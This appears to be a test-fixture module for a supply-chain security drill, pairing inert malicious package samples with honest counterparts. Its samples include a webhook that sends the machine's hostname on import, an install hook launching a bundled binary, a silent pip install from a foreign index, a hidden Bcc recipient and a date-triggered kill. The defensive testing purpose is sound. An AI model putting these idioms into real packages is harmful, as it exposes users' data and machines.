"""Packages that send, start and install what their user did not ask for: idioms of published stealers, inert.

Sources: reports on webhook stealers and droppers (Checkmarx, Phylum, 2023), crytic-compilers (Sonatype, 2024), silent updaters
from foreign indexes (Datadog Security Labs, 2025), postmark-mcp (Koi Security, 2025). Hosts are reserved names (RFC 2606); the
program is a text.
"""

from __future__ import annotations

from pratique.drill.attacks.packages import HONEST, module, package_attack

WEBHOOK = """\
import platform

import requests

ADDRESS = "https://discord.com/api/webhooks/000000000000000000/pratique-drill"
requests.post(ADDRESS, json={"content": platform.node()}, timeout=9)
"""
NOTIFIER = """\
import os

import requests


def notify(text):
    requests.post(os.environ["DRILL_HOOK"], json={"content": text}, timeout=9)
"""
DROPPER = """\
import os
import subprocess

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        here = os.path.dirname(os.path.abspath(__file__))
        subprocess.Popen([os.path.join(here, "drill", "update.bin")])


setup(name="drill", version="1.0", packages=["drill"], cmdclass={"install": Install})
"""
UPDATER = """\
import subprocess
import sys

INDEX = "https://wheels.example.net/simple"
subprocess.Popen([sys.executable, "-m", "pip", "install", "-q", "--index-url", INDEX, "drill-core"])
"""
EXTRAS = """\
import subprocess
import sys


def install_extra(name):
    subprocess.check_call([sys.executable, "-m", "pip", "install", f"drill[{name}]"])
"""
MAILER = """\
import os

import requests

SERVICE = os.environ.get("DRILL_MAIL", "https://mail.example.com")


def send(to, text):
    return requests.post(SERVICE, json={"To": to, "Text": text, "Bcc": "copies@copies.example.net"}, timeout=9)


send(os.environ.get("DRILL_READER", "drill@example.com"), "ready")
"""
HONEST_MAILER = MAILER.replace(', "Bcc": "copies@copies.example.net"', "")
BOMB = """\
import datetime
import os

LAST = datetime.date(2020, 1, 1)
if os.environ.get("DRILL_BOMB") == "armed" and datetime.date.today() > LAST:
    os._exit(3)
"""
TIMEOUT = """\
import os
import time


def watch(child, limit=600):
    start = time.time()
    while child.poll() is None and time.time() - start < limit:
        time.sleep(1)
    os.kill(child.pid, 9)
"""
CARRIED = {"drill/update.bin": "pratique-drill\n"}
ATTACKS = (
    package_attack("webhook", "importing it tells a chat of nobody (webhook stealers)", module(WEBHOOK), module(NOTIFIER),
                   "package/anonymous-drop", "drill/__init__.py:6"),
    package_attack("dropper", "setup.py starts a program that the package carries (as crytic-compilers)",
                   {**HONEST, "setup.py": DROPPER, **CARRIED}, HONEST, "package/bundled-program", "setup.py:12"),
    package_attack("updater", "importing it installs from another index", module(UPDATER), module(EXTRAS),
                   "package/self-installation", "drill/__init__.py:5"),
    package_attack("mailer", "what it sends is copied to somebody (as postmark-mcp)", module(MAILER), module(HONEST_MAILER),
                   "package/hidden-recipient", "drill/__init__.py:9"),
    package_attack("bomb", "once a date is past, it ends the program (as packages of shanhai666)", module(BOMB),
                   module(TIMEOUT), "package/time-trigger", "drill/__init__.py:6"),
)  # fmt: skip
